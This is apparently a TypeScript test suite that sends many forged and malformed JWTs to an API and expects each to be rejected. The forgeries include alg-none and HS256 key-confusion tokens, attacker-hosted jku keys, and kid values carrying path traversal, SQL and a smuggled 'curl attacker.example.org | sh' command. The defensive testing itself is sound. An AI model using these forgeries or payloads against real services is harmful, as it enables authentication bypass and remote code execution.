import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { CompactEncrypt, SignJWT } from 'jose';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import '../../support/leaks.ts';
import { aLabState, API, fakeLabs, testApp } from '../../routes/support.ts';
import { forge, forgeHmac, goodParts, noise, part, publicPem } from './support/forge.ts';
import { makeKey, startIssuer, type TestIssuer, type TestKey } from './support/issuer.ts';
import { issuerConfig, startProvider, type TestProvider } from './support/provider.ts';

/** What the attacker works with. */
interface Scene {
  /** The issuer that is believed, its keys, and a second one that is believed too and shares a key's name. */
  readonly issuer: TestIssuer;
  readonly rsa: TestKey;
  readonly ec: TestKey;
  /** An RSA key that is published without a word on what it is for. */
  readonly bare: TestKey;
  readonly neighbour: TestIssuer;
  /** The attacker's own key, published at an address of its own, under a name of the issuer's. */
  readonly own: TestKey;
  readonly home: string;
  readonly header: Record<string, unknown>;
  readonly claims: Record<string, unknown>;
  readonly now: number;
  /** A token that is good. */
  readonly good: string;
}

type Row = readonly [what: string, status: number, make: (scene: Scene) => string | Promise<string>];

const dots = (token: string) => token.split('.') as [string, string, string];
const withClaims = (change: Record<string, unknown>) => (scene: Scene) =>
  forge(scene.header, { ...scene.claims, ...change }, scene.rsa);
const withHeader = (change: Record<string, unknown>) => (scene: Scene) =>
  forge({ ...scene.header, ...change }, scene.claims, scene.rsa);
/** Signed by the attacker, who says where the key is. */
const withOwnKey = (change: (scene: Scene) => Record<string, unknown>) => (scene: Scene) =>
  forge({ ...scene.header, ...change(scene) }, scene.claims, scene.own);
const unsigned = (alg: string) => (scene: Scene) => `${part({ ...scene.header, alg })}.${part(scene.claims)}.`;
const withKid = (kid: unknown) => (scene: Scene) => forge({ ...scene.header, kid }, scene.claims, scene.own);
const without = (claim: string) => withClaims({ [claim]: undefined });

const rows: Row[] = [
  ['a token that is good is admitted', 200, ({ good }) => good],
  ['alg none without a signature', 401, unsigned('none')],
  ['alg NONE', 401, unsigned('NONE')],
  ['alg None', 401, unsigned('None')],
  ['alg nOnE with the signature of a good token', 401, (s) => `${unsigned('nOnE')(s)}${dots(s.good)[2]}`],
  ['an empty alg', 401, unsigned('')],
  ['no alg', 401, withHeader({ alg: undefined })],
  ['an alg that is a list', 401, withHeader({ alg: ['RS256'] })],
  ['an alg in lower case', 401, withHeader({ alg: 'rs256' })],
  [
    'an alg that is not accepted here, by a key that would do',
    401,
    (s) => forge({ alg: 'RS512', kid: 'bare' }, s.claims, s.bare, 'sha512'),
  ],
  [
    'an alg that is accepted, by the same key, is admitted',
    200,
    (s) => forge({ alg: 'RS256', kid: 'bare' }, s.claims, s.bare),
  ],
  [
    'HS256 with the public key in PEM as the secret',
    401,
    async (s) => forgeHmac({ ...s.header, alg: 'HS256' }, s.claims, await publicPem(s.rsa)),
  ],
  [
    'HS256 with the public key in PEM, trimmed',
    401,
    async (s) => forgeHmac({ ...s.header, alg: 'HS256' }, s.claims, (await publicPem(s.rsa)).trim()),
  ],
  [
    'HS256 with the public JWK as the secret',
    401,
    (s) => forgeHmac({ ...s.header, alg: 'HS256' }, s.claims, JSON.stringify(s.rsa.jwk)),
  ],
  [
    'HS256 with the modulus as the secret',
    401,
    (s) => forgeHmac({ ...s.header, alg: 'HS256' }, s.claims, Buffer.from(s.rsa.jwk.n!, 'base64url')),
  ],
  ['HS256 with no secret', 401, (s) => forgeHmac({ ...s.header, alg: 'HS256' }, s.claims, '')],
  ['RS256 under the name of an elliptic key', 401, withHeader({ kid: 'ec' })],
  ['ES256 under the name of an RSA key', 401, (s) => forge({ alg: 'ES256', kid: 'rsa' }, s.claims, s.ec)],
  [
    'ES256 with a signature of zeros',
    401,
    (s) => `${part({ alg: 'ES256', kid: 'ec' })}.${part(s.claims)}.${Buffer.alloc(64).toString('base64url')}`,
  ],
  ['another audience', 401, withClaims({ aud: 'another' })],
  ['several audiences, none of them right', 401, withClaims({ aud: ['a', 'LABWRIGHT', 'labwright '] })],
  ['an audience that holds the right one deeper', 401, withClaims({ aud: [['labwright']] })],
  ['an audience that is an object', 401, withClaims({ aud: { labwright: true } })],
  ['no audience', 401, without('aud')],
  ['an empty list of audiences', 401, withClaims({ aud: [] })],
  ['another issuer', 401, withClaims({ iss: 'https://attacker.example.org' })],
  ['the issuer with a slash behind', 401, (s) => withClaims({ iss: `${s.issuer.issuer}/` })(s)],
  ['the issuer in upper case', 401, (s) => withClaims({ iss: s.issuer.issuer.toUpperCase() })(s)],
  ['the issuer with a space before', 401, (s) => withClaims({ iss: ` ${s.issuer.issuer}` })(s)],
  ['the issuer in a list', 401, (s) => withClaims({ iss: [s.issuer.issuer] })(s)],
  ['the issuer among others in a list', 401, (s) => withClaims({ iss: ['x', s.issuer.issuer] })(s)],
  ['no issuer', 401, without('iss')],
  ['expired', 401, (s) => withClaims({ exp: s.now - 60 })(s)],
  [
    'expired this moment long ago, with an exp in milliseconds of the past',
    401,
    (s) => withClaims({ exp: -s.now * 1000 })(s),
  ],
  ['not yet valid', 401, (s) => withClaims({ nbf: s.now + 120 })(s)],
  ['an nbf that is text', 401, withClaims({ nbf: '0' })],
  ['no exp', 401, without('exp')],
  ['an exp that is text', 401, (s) => withClaims({ exp: String(s.now + 600) })(s)],
  ['an exp that is null', 401, withClaims({ exp: null })],
  [
    'an exp beyond all numbers',
    401,
    (s) => forge(s.header, JSON.stringify(s.claims).replace(/"exp":\d+/, '"exp":1e999'), s.rsa),
  ],
  ['issued in the future', 401, (s) => withClaims({ iat: s.now + 120 })(s)],
  ['an iat that is text', 401, (s) => withClaims({ iat: String(s.now) })(s)],
  ['a key that nobody has', 401, withKid('unknown')],
  ['a key that is a path', 401, withKid('../../../../dev/null')],
  ['a key that is a path to a file with known content', 401, withKid('/proc/sys/kernel/randomize_va_space')],
  ['a key that is a URL', 401, (s) => withKid(`${s.home}/jwks`)(s)],
  ['a key that is SQL', 401, withKid("rsa' UNION SELECT 'secret' --")],
  ['a key that is a command', 401, withKid('rsa; curl attacker.example.org | sh')],
  ['a key of the language', 401, withKid('__proto__')],
  ['a key of 10 KB', 401, withKid('k'.repeat(10_240))],
  ['a key of 300 characters', 401, withKid('k'.repeat(300))],
  ['an empty name of a key', 401, withKid('')],
  ['a name of a key that is a number', 401, withKid(1)],
  ['a name of a key that is an object', 401, withKid({ kid: 'rsa' })],
  ['a jku that has the key', 401, withOwnKey(({ home }) => ({ jku: `${home}/jwks` }))],
  ['a jku and a kid of the attacker', 401, withOwnKey(({ home }) => ({ jku: `${home}/jwks`, kid: 'own' }))],
  ['an x5u that has the certificate', 401, withOwnKey(({ home }) => ({ x5u: `${home}/certificate` }))],
  ['an x5c', 401, withOwnKey(() => ({ x5c: ['MIIB'] }))],
  ['the key itself in the header', 401, withOwnKey(({ own }) => ({ jwk: own.jwk }))],
  ['the key itself in the header, and no kid', 401, withOwnKey(({ own }) => ({ jwk: own.jwk, kid: undefined }))],
  [
    'a good token with a critical header that nobody knows',
    401,
    withHeader({ crit: ['exp-policy'], 'exp-policy': 'none' }),
  ],
  ['a critical list that is empty', 401, withHeader({ crit: [] })],
  ['a critical header that is not there', 401, withHeader({ crit: ['b64'] })],
  [
    'a payload that is not encoded',
    401,
    async (s) => {
      const [header, body] = [part({ ...s.header, b64: false, crit: ['b64'] }), part(s.claims)];
      return `${header}.${body}.${dots(await forge({ ...s.header, b64: false, crit: ['b64'] }, s.claims, s.rsa))[2]}`;
    },
  ],
  [
    'the issuer twice, the right one first',
    401,
    (s) =>
      forge(
        s.header,
        `{"iss":"${s.issuer.issuer}",${JSON.stringify({ ...s.claims, iss: 'https://attacker.example.org' }).slice(1)}`,
        s.own,
      ),
  ],
  [
    'the issuer twice, the right one last',
    401,
    (s) => forge(s.header, `{"iss":"https://attacker.example.org",${JSON.stringify(s.claims).slice(1)}`, s.own),
  ],
  ['the alg twice', 401, (s) => `${part(`{"alg":"none","alg":"RS256","kid":"rsa"}`)}.${part(s.claims)}.`],
  [
    'the alg twice, the other way',
    401,
    (s) => `${part(`{"alg":"RS256","alg":"none","kid":"rsa"}`)}.${part(s.claims)}.`,
  ],
  [
    'a payload whose prototype has the claims',
    401,
    (s) => forge(s.header, JSON.stringify({ a: s.claims }).replace('"a"', '"__proto__"'), s.rsa),
  ],
  ['a payload that is a list', 401, (s) => forge(s.header, [s.claims], s.rsa)],
  ['a payload that is text', 401, (s) => forge(s.header, '"claims"', s.rsa)],
  ['a payload with a comment', 401, (s) => forge(s.header, `/* */${JSON.stringify(s.claims)}`, s.rsa)],
  ['a payload behind a byte order mark', 401, (s) => forge(s.header, `\ufeff${JSON.stringify(s.claims)}`, s.rsa)],
  ['a header behind a byte order mark', 401, (s) => forge(`\ufeff${JSON.stringify(s.header)}`, s.claims, s.rsa)],
  ['a header that is null', 401, (s) => `${part('null')}.${part(s.claims)}.${dots(s.good)[2]}`],
  [
    'a payload that is no UTF-8',
    401,
    (s) => `${dots(s.good)[0]}.${Buffer.from([0x7b, 0xff, 0x7d]).toString('base64url')}.${dots(s.good)[2]}`,
  ],
  [
    'the claims of one token and the signature of another',
    401,
    async (s) => [...dots(await withClaims({ preferred_username: 'admin' })(s)).slice(0, 2), dots(s.good)[2]].join('.'),
  ],
  [
    'the header of one token on another',
    401,
    async (s) => [dots(await withHeader({ typ: 'JWT' })(s))[0], ...dots(s.good).slice(1)].join('.'),
  ],
  ['two tokens, with a comma', 401, ({ good }) => `${good},${good}`],
  ['two tokens, with a space', 401, ({ good }) => `${good} ${good}`],
  ['two tokens, each with its word', 401, ({ good }) => `${good}, Bearer ${good}`],
  ['four parts', 401, ({ good }) => `${good}.${dots(good)[2]}`],
  ['two parts', 401, ({ good }) => dots(good).slice(0, 2).join('.')],
  [
    'a token that is encrypted',
    401,
    (s) =>
      new CompactEncrypt(Buffer.from(s.good))
        .setProtectedHeader({ alg: 'dir', enc: 'A256GCM', cty: 'JWT' })
        .encrypt(Buffer.alloc(32, 1)),
  ],
  ['a token within a token', 401, (s) => forge({ ...s.header, cty: 'JWT' }, s.good, s.rsa)],
  ['a signature without its last character', 401, ({ good }) => good.slice(0, -1)],
  ['a signature of half the length', 401, ({ good }) => good.slice(0, good.lastIndexOf('.') + 100)],
  ['no signature', 401, ({ good }) => good.slice(0, good.lastIndexOf('.') + 1)],
  ['a signature with padding', 401, ({ good }) => `${good}==`],
  [
    'parts with padding',
    401,
    ({ good }) =>
      dots(good)
        .map((text) => text.padEnd(Math.ceil(text.length / 4) * 4, '='))
        .join('.'),
  ],
  ['the other alphabet', 401, (s) => withStandardAlphabet(s)],
  ['a signature whose last bits nobody reads', 401, ({ good }) => withLooseBits(good)],
  ['a token of 9 KB', 401, withClaims({ filling: 'x'.repeat(7000) })],
  ['a token of 1 MB', 401, ({ good }) => `${good}${noise(2 ** 20)}`],
  [
    'a token of the neighbour under the name of a shared key',
    401,
    (s) => forge(s.header, s.claims, s.neighbour.keys[0]!),
  ],
  [
    'a token of the neighbour that names this issuer, with its own key',
    401,
    (s) => s.neighbour.sign({ iss: s.issuer.issuer, preferred_username: 'ada' }),
  ],
  ['a token for logging out', 401, withHeader({ typ: 'logout+jwt' })],
  [
    'a token for logging out, of no type',
    401,
    withClaims({ events: { 'http://schemas.openid.net/event/backchannel-logout': {} } }),
  ],
  ['a proof of possession', 401, withHeader({ typ: 'dpop+jwt' })],
  ['a token that is bound to a key', 401, withClaims({ cnf: { jkt: 'x' } })],
  ['a type that is a list', 401, withHeader({ typ: ['JWT'] })],
  ['a name with a slash', 403, withClaims({ preferred_username: 'ada/../admin' })],
  ['a name that goes up', 403, withClaims({ preferred_username: '..' })],
  ['a name with a line break', 403, withClaims({ preferred_username: 'ada\nroot' })],
  ['a name with a NUL', 403, withClaims({ preferred_username: 'ada\0' })],
  ['a name with an escape sequence', 403, withClaims({ preferred_username: '\u001b[31mada' })],
  ['a name that is a list', 403, withClaims({ preferred_username: ['ada'] })],
  ['a name that is a number', 403, withClaims({ preferred_username: 0 })],
  ['an empty name', 403, withClaims({ preferred_username: '' })],
  [
    'half of a surrogate pair',
    403,
    (s) => forge(s.header, JSON.stringify(s.claims).replace('"ada"', '"ada\\ud800"'), s.rsa),
  ],
  ['a name of 300 characters', 403, withClaims({ preferred_username: 'a'.repeat(300) })],
  [
    'a name from the prototype',
    403,
    (s) =>
      forge(
        s.header,
        JSON.stringify({ ...s.claims, preferred_username: undefined, x: { preferred_username: 'ada' } }).replace(
          '"x"',
          '"__proto__"',
        ),
        s.rsa,
      ),
  ],
  ['the name of somebody else', 403, withClaims({ preferred_username: 'bob' })],
  ['the name in another case', 403, withClaims({ preferred_username: 'Ada' })],
  ['the name with a fullwidth letter', 403, withClaims({ preferred_username: 'ａda' })],
];

function withStandardAlphabet({ good }: Scene): string {
  const standard = good.replaceAll('-', '+').replaceAll('_', '/');
  expect(standard).not.toBe(good);
  return standard;
}

/** The same bytes written another way: the last character of 256 bytes stands for two bits and four unused ones. */
function withLooseBits(good: string): string {
  const loose = ['A', 'Q', 'g', 'w'].includes(good.at(-1)!)
    ? String.fromCharCode(good.at(-1)!.charCodeAt(0) + 1)
    : (expect.fail(`unexpected end ${good.at(-1)}`), '');
  const changed = `${good.slice(0, -1)}${loose}`;
  expect(Buffer.from(changed.slice(changed.lastIndexOf('.') + 1), 'base64url')).toEqual(
    Buffer.from(good.slice(good.lastIndexOf('.') + 1), 'base64url'),
  );
  return changed;
}

/** A name that nobody can have is refused with the token; one that somebody else has, by the route. */
function refusal(what: string, status: number) {
  if (status === 401) return { type: 'invalid_token', msg: expect.any(String) as string };
  const msg = what.startsWith('the name') ? 'Permission denied' : 'The token holds no valid user name';
  return { type: 'permission_denied', msg };
}

let scene: Scene;
let attacker: Server;
let visits = 0;
let provider: TestProvider;
let call: ReturnType<typeof testApp>['call'];
let logs: ReturnType<typeof testApp>['logs'];

beforeAll(async () => {
  const any = await makeKey('bare', 'RS256');
  const bare: TestKey = { ...any, jwk: { kty: 'RSA', kid: 'bare', n: any.jwk.n!, e: any.jwk.e! } };
  const [rsa, ec, own] = [await makeKey('rsa', 'RS256'), await makeKey('ec'), await makeKey('rsa', 'RS256')];
  attacker = createServer((_request, response) => {
    visits += 1;
    response.end(JSON.stringify({ keys: [own.jwk, { ...own.jwk, kid: 'own' }] }));
  });
  await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
  const issuer = await startIssuer([rsa, ec, bare]);
  const neighbour = await startIssuer([await makeKey('rsa', 'RS256')]);
  const parts = goodParts(issuer.issuer, rsa);
  const good = await forge(parts.header, parts.claims, rsa);
  const home = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
  scene = { issuer, rsa, ec, bare, neighbour, own, home, good, ...parts };
  provider = startProvider({
    issuers: [issuerConfig(issuer.issuer), issuerConfig(neighbour.issuer)],
    keys: { cooldownMs: 10 },
  });
  ({ call, logs } = testApp({ identity: [provider.provider], labs: fakeLabs([aLabState()]) }));
});
afterAll(async () => {
  await provider.close();
  await scene.issuer.close();
  await scene.neighbour.close();
  await new Promise((resolve) => {
    attacker.close(resolve);
    attacker.closeAllConnections();
  });
});

const show = (token: string) => call(`${API}/labs/ada`, { headers: { authorization: `Bearer ${token}` } });

describe('a JWT', () => {
  it.each(rows)('%s: %i', async (what, status, make) => {
    const token = await make(scene);
    const answer = await show(token);
    expect(answer.status).toBe(status);
    if (status === 200) return;
    const body = await answer.text();
    expect(JSON.parse(body)).toEqual({
      detail: [refusal(what, status)],
    });
    expect(body).not.toContain(token.slice(0, 40));
    expect(answer.headers.has('www-authenticate')).toBe(status === 401);
  });

  it('is told from any other by all of the rows, and nobody has asked the attacker or logged a token', async () => {
    expect((await show(scene.good)).status).toBe(200);
    expect(visits).toBe(0);
    const written = JSON.stringify([...logs, ...provider.logs]);
    expect(written).not.toContain(dots(scene.good)[1]);
    expect(written).not.toContain(dots(scene.good)[2]);
  });

  it('of an issuer that is not known here makes nobody ask anybody', async () => {
    const asked = () => scene.issuer.asked.jwks.length + scene.neighbour.asked.jwks.length;
    const before = asked();
    const token = await new SignJWT({ iss: scene.home, aud: 'labwright', preferred_username: 'ada' })
      .setProtectedHeader({ alg: 'RS256', kid: 'rsa' })
      .setExpirationTime('5m')
      .sign(scene.own.privateKey);
    const fresh = startProvider({ issuers: [issuerConfig(scene.issuer.issuer), issuerConfig(scene.neighbour.issuer)] });
    expect(await fresh.show(token)).toMatchObject({ status: 401 });
    await fresh.close();
    expect([asked(), visits]).toEqual([before, 0]);
  });

  it.each<[string, (scene: Scene) => Record<string, unknown>]>([
    ['expired', (s) => ({ exp: s.now - 60 })],
    ['for another audience', () => ({ aud: 'another' })],
    ['under a name of 300 characters', () => ({ kid: 'k'.repeat(300) })],
  ])('that is %s makes nobody look for its key', async (_what, change) => {
    const before = scene.issuer.asked.jwks.length;
    const { kid = 'gone', ...claims } = change(scene);
    const token = await forge({ ...scene.header, kid }, { ...scene.claims, ...claims }, scene.own);
    expect((await show(token)).status).toBe(401);
    expect(scene.issuer.asked.jwks).toHaveLength(before);
  });
});
